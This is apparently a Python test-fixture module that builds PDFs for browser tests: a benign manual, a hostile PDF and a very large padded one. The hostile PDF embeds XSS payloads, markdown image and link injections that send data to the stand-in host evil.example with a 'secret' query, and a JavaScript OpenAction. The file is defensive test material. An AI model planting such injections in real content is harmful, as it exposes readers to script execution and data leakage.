"""PDF files that the browser tests send: an honest one, one that attacks who reads it, one that is long."""

from __future__ import annotations

import secrets
from pathlib import Path

from reportlab.pdfbase.pdfdoc import PDFDictionary, PDFName, PDFString
from reportlab.pdfgen.canvas import Canvas

from pdf_files import drawn_pdf

SEAL = "Replace the vacuum seal of the Solvane 12 after 300 hours of operation."
TRAP = "https://evil.example/leak"
HOSTILE_NAME = "<img src=x onerror=alert(1)>.pdf"
_HOSTILE = (
    "Vortane 7 stirrer maintenance",
    f"Clean the Vortane 7 stirrer plate with <img src={TRAP} onerror=alert(2)> mild soap.",
    f"Clean the Vortane 7 stirrer bar with ![soap]({TRAP}?q=secret) every day.",
    f"Clean the Vortane 7 stirrer motor as [described here]({TRAP}) every month.",
    "Clean the Vortane 7 stirrer lid with <script>alert(3)</script> a dry cloth.",
    "Clean the Vortane 7 stirrer feet with javascript:alert(4) warm water.",
)


def honest(path: Path) -> Path:
    """Two pages about a machine that is in no sample."""

    def draw(canvas: Canvas) -> None:
        canvas.setTitle("Solvane 12 rotary evaporator manual")
        canvas.setFont("Helvetica-Bold", 16)
        canvas.drawString(30, 250, "Solvane 12 rotary evaporator")
        canvas.setFont("Helvetica", 10)
        canvas.drawString(30, 220, "Read this manual before you work with the Solvane 12.")
        canvas.showPage()
        canvas.setFont("Helvetica-Bold", 14)
        canvas.drawString(30, 260, "2 Maintenance")
        canvas.setFont("Helvetica", 10)
        canvas.drawString(30, 230, SEAL)
        canvas.drawString(30, 214, "The bath holds four litres of distilled water at most.")
        canvas.showPage()

    return drawn_pdf(path, draw)


def hostile(path: Path) -> Path:
    """Every line of it tries to run something or to send something away; so do its title, a link and its opening."""

    def draw(canvas: Canvas) -> None:
        canvas.setTitle(f"Vortane 7 <img src={TRAP} onerror=alert(5)>")
        canvas.setFont("Helvetica", 8)
        for line, text in enumerate(_HOSTILE):
            canvas.drawString(20, 260 - 16 * line, text)
        canvas.linkURL(TRAP, (20, 20, 380, 280))
        canvas.setCatalogEntry(
            "OpenAction", PDFDictionary({"S": PDFName("JavaScript"), "JS": PDFString("app.alert(6)")})
        )
        canvas.showPage()

    return drawn_pdf(path, draw)


def long(path: Path, pages: int = 400) -> Path:
    """Several megabytes: every page carries a remark that does not compress, and that nobody draws."""

    def draw(canvas: Canvas) -> None:
        for number in range(1, pages + 1):
            canvas.drawString(30, 260, f"Halvane 400 atlas, plate {number}")
            canvas._code.append(f"% {secrets.token_hex(16_000)}")
            canvas.showPage()

    return drawn_pdf(path, draw)
